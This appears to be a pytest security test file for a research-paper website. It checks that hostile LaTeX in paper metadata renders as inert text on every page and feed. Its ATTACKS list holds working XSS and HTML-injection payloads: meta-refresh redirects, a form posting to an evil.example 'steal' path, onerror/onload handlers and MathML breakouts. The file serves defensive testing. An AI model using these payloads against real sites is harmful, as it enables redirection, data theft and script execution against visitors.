"""HTML injection through LaTeX: hostile `$...$` spans in titles, abstracts and arXiv comments, through every page
that renders math. Pages are parsed with html5lib (the WHATWG algorithm browsers use, foreign content included),
so markup that would come alive in a browser is found even where a naive parser would see text."""

from __future__ import annotations

import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import date
from urllib.parse import quote

import html5lib
import pytest
from fastapi.testclient import TestClient

from paperwire.application import Paperwire
from paperwire.config import Settings
from paperwire.digest import subscriptions as subs
from paperwire.digest.subscriptions import Preferences
from paperwire.papers.ingest import ingest_items
from paperwire.papers.record import ListingEntry, PaperRecord, ParsedItem
from paperwire.search.engine import SearchEngine
from paperwire.search.evaluate import CachedEmbedder
from paperwire.search.indexer import embed_pending
from paperwire.store import Store
from paperwire.web import create_app
from paperwire.web.mathml import MATHML_ATTRIBUTES, MATHML_TAGS

EVIL = "evil.example"
DAY = date(2026, 2, 3)  # the fixture's Hugging Face day: the daily list's latest day
ATTACKS = [
    r"$\text{<meta http-equiv=refresh content=0;url=//evil.example>}$",
    r"$\text{<meta/http-equiv=refresh/content=0;url=//evil.example/>}$",
    r"$\mbox{<form/action=//evil.example/steal>}$",
    r"$\fbox{<script>alert('evil.example')</script>}$",
    r"$\textbf{<base/href=//evil.example/>}$",
    r"$\mathrm{<a/href=javascript:alert('evil.example')>x</a>}$",
    r"$\textit{<img/src=//evil.example/x/onerror=alert(1)>}$",
    r"$\tag{<svg/onload=alert('evil.example')>}$",
    r"$\href{javascript:alert('evil.example')}{click}$",
    r"$\style{background:url(//evil.example/x)}{x}$",
    r"$\class{flash evil.example}{x}$",
    r"$\text{</mtext></math><iframe/src=//evil.example>}$",
    r"$x</math><form action=//evil.example>$",
    r"$a$<iframe src=//evil.example>$\text{<b>$</b>}$",
    r"$\text{<mglyph><style><img src=//evil.example onerror=alert(1)>}$",
]
HOSTILE = "2602.90001"
TWIN = "2602.90002"  # the same text: each is the other's most similar paper
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcset", "poster", "background", "ping"}
MATHML_NS = "http://www.w3.org/1998/Math/MathML"


def hostile_record(pid: str) -> PaperRecord:
    return PaperRecord(
        pid,
        "Zyxquark attention " + " ".join(ATTACKS[:8]),
        "We study zyxquark attention. " + " ".join(ATTACKS),
        ("Eve Zyxquark",),
        ("cs.CL",),
        version=1,
        published=DAY,
        comments="12 pages " + " ".join(ATTACKS),
    )


@pytest.fixture(scope="module")
def remembering_embedder(default_embedder) -> CachedEmbedder:
    """The default model, remembering each text's vector: every test's site embeds the same papers (the
    hostile two and the daily list's), which took 6 to 14 s a test before."""
    return CachedEmbedder(default_embedder)


@pytest.fixture
def hostile_client(
    site_settings: Settings, site_store: Store, default_embedder, remembering_embedder: CachedEmbedder
) -> Iterator[TestClient]:
    """The site with two hostile papers at the top of the latest day, embedded and indexed."""
    items = [
        ParsedItem(hostile_record(pid), "hostile", n, listing=ListingEntry(DAY, pid, "huggingface", upvotes=9_000))
        for n, pid in enumerate((HOSTILE, TWIN), 1)
    ]
    assert not ingest_items(site_store, items, source="hostile").errors
    embed_pending(site_store, remembering_embedder, batch_size=8)
    engine = SearchEngine(site_settings, site_store, embedder=default_embedder)
    engine.sync()
    with TestClient(create_app(Paperwire(site_settings, store=site_store, engine=engine))) as client:
        yield client


@dataclass
class Page:
    """What a browser would build from a page: every element (tag, namespace, attributes) and the visible text."""

    elements: list[tuple[str, str, dict[str, str]]] = field(default_factory=list)
    math_tags: set[str] = field(default_factory=set)
    math_attributes: set[str] = field(default_factory=set)
    text: str = ""


def parse(html: str) -> Page:
    page = Page()
    texts: list[str] = []
    for element in html5lib.parse(html).iter():
        if not isinstance(element.tag, str):
            continue
        ns, _, tag = element.tag[1:].partition("}")
        attrs = {str(k).rpartition("}")[2]: v for k, v in element.attrib.items()}
        page.elements.append((tag, ns, attrs))
        if ns == MATHML_NS:
            page.math_tags.add(tag)
            page.math_attributes.update(attrs)
        texts += [element.text or "", element.tail or ""]
    page.text = " ".join(texts)
    return page


def assert_inert(html: str) -> Page:
    """No element, attribute or URL that came from the paper text; the math's text is shown, not lost."""
    page = parse(html)
    for tag, _ns, attrs in page.elements:
        where = f"<{tag} {attrs}>"
        urls = [value.strip().lower() for name, value in attrs.items() if name in URL_ATTRIBUTES]
        assert not any(EVIL in url or url.startswith(("javascript:", "data:")) for url in urls), where
        assert not any(name.startswith("on") or name in {"style", "http-equiv", "srcdoc"} for name in attrs), where
        assert tag not in {"iframe", "base", "img", "embed", "object", "mglyph", "style"}, where
        if tag == "form":
            assert attrs.get("action", "").startswith("/"), where
        if tag == "script":
            assert attrs.get("src", "").startswith("/static/"), where
    assert page.math_tags, "the math was not rendered"
    assert page.math_tags <= MATHML_TAGS and page.math_attributes <= MATHML_ATTRIBUTES
    return page


def test_the_daily_list(hostile_client: TestClient) -> None:
    html = hostile_client.get("/").text
    assert f"/papers/{HOSTILE}" in html
    assert_inert(html)


def test_the_paper_page_with_abstract_comments_and_similar_papers(hostile_client: TestClient) -> None:
    response = hostile_client.get(f"/papers/{HOSTILE}")
    assert response.status_code == 200
    similar = response.text.split('id="similar-h"', 1)[1].split("</ol>", 1)[0]
    assert f"/papers/{TWIN}" in similar  # the twin's hostile title is rendered among similar papers
    page = assert_inert(response.text)
    assert "<meta http-equiv=refresh content=0;url=//evil.example>" in page.text  # shown as text
    assert "<form/action=//evil.example/steal>" in page.text


def test_the_search_page(hostile_client: TestClient) -> None:
    for mode in ("keyword", "semantic", "hybrid"):
        response = hostile_client.get("/search", params={"q": "zyxquark attention", "mode": mode})
        assert response.status_code == 200 and f"/papers/{HOSTILE}" in response.text, mode
        assert_inert(response.text)


def test_the_author_page(hostile_client: TestClient) -> None:
    response = hostile_client.get("/authors/" + quote("Eve Zyxquark"))
    assert response.status_code == 200 and f"/papers/{HOSTILE}" in response.text
    assert_inert(response.text)


def test_the_digest_preview(hostile_client: TestClient, site_store: Store, site_settings: Settings) -> None:
    row = subs.add_subscriber(
        site_store, "reader@example.org", Preferences(topics=("zyxquark attention",)), confirmed=True
    )
    token = subs.manage_url(site_settings, site_store, row).rsplit("/", 1)[1]
    response = hostile_client.get("/digest/preview", params={"token": token, "date": DAY.isoformat()})
    assert response.status_code == 200 and f"/papers/{HOSTILE}" in response.text
    assert_inert(response.text)


def test_the_feeds(hostile_client: TestClient) -> None:
    """Feeds carry the LaTeX as text; what a reader renders as HTML (titles, descriptions) builds no element."""
    for path in (
        "/feeds/daily.rss",
        "/feeds/daily.atom",
        "/feeds/search.rss?q=zyxquark",
        "/feeds/author/Eve%20Zyxquark.atom",
        "/feeds/category/cs.CL.rss",
    ):
        root = ET.fromstring(hostile_client.get(path).content)
        shown: list[str] = []
        for element in root.iter():
            if element.tag.rpartition("}")[2] in {"title", "description", "summary", "subtitle"}:
                fragment = html5lib.parseFragment(element.text or "", treebuilder="etree")
                assert [e.tag for e in fragment.iter() if isinstance(e.tag, str)] == ["DOCUMENT_FRAGMENT"], path
                shown.append("".join(fragment.itertext()))
        assert any(ATTACKS[0] in text for text in shown), path  # the hostile paper is there, its LaTeX as text
